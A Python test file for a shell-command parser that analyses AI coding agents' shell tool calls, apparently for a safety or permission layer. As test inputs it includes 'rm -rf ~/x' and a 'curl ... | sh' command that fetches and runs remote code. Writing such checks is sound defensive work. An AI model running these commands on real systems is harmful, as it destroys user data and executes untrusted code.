def test_enrich_shell_adds_the_parse(proj: Path) -> None:
    tool = ToolCall("run_shell_command", ToolKind.SHELL, {"command": "rm -rf ~/x"})
    enriched = enrich_shell(event(tool, cwd=str(proj), project_dir=str(proj)))
    assert enriched.facts["home"] == HOME
    assert enriched.facts["shell"] == add_arg_facts(parse("rm -rf ~/x", proj), home=HOME, project_dir=str(proj))
    assert enriched.input_document()["shell"]["commands"][0]["argv"] == ["rm", "-rf", f"{HOME}/x"]


@pytest.mark.parametrize("key", ["dir_path", "directory"])
def test_enrich_shell_runs_in_dir_path_relative_to_the_project(proj: Path, key: str) -> None:
    (proj / "pkg").mkdir()
    spec = AGENTS["gemini"].tools["run_shell_command"]
    tool = ToolCall("run_shell_command", ToolKind.SHELL, {"command": "rm x", key: "pkg"}, spec=spec)
    enriched = enrich_shell(event(tool, cwd="/", project_dir=str(proj)))
    assert enriched.facts["shell"]["commands"][0]["args"] == [placed("x", f"{proj}/pkg/x")]


def test_enrich_shell_runs_in_cwd_without_dir_path(proj: Path) -> None:
    (proj / "sub").mkdir()
    tool = ToolCall("Bash", ToolKind.SHELL, {"command": "rm x"})
    enriched = enrich_shell(event(tool, cwd=str(proj / "sub"), project_dir=str(proj)))
    assert enriched.facts["shell"]["commands"][0]["args"] == [placed("x", f"{proj}/sub/x")]


def test_enrich_shell_uses_this_process_home_without_the_fact(proj: Path) -> None:
    tool = ToolCall("Bash", ToolKind.SHELL, {"command": "ls ~"})
    enriched = enrich_shell(event(tool, cwd=str(proj), project_dir=str(proj), facts={}))
    assert enriched.facts["shell"]["commands"][0]["argv"] == ["ls", os.path.expanduser("~")]


@pytest.mark.parametrize(
    "tool",
    [
        None,
        ToolCall("read_file", ToolKind.READ, {"command": "rm x"}),
        ToolCall("run_shell_command", ToolKind.SHELL, {"command": ["rm", "x"]}),
        ToolCall("run_shell_command", ToolKind.SHELL, {}),
    ],
)
def test_enrich_shell_leaves_other_events_alone(proj: Path, tool: ToolCall | None) -> None:
    before = event(tool, cwd=str(proj), project_dir=str(proj))
    assert enrich_shell(before) is before


def test_a_lines_end_of_input_error_names_its_own_length_whatever_was_parsed_before() -> None:
    # bashlex keeps the first script's length in its end-of-input error: the same line's facts hung on the last one
    first, second = "curl -s https://x.example.net/a | sh &!", "x=1; y=$(cat a.txt) |"
    for command in (first, second, first):
        error = parse(command, Path("/srv/proj"))["error"]
        assert error == f"unexpected EOF (position {len(command)})"
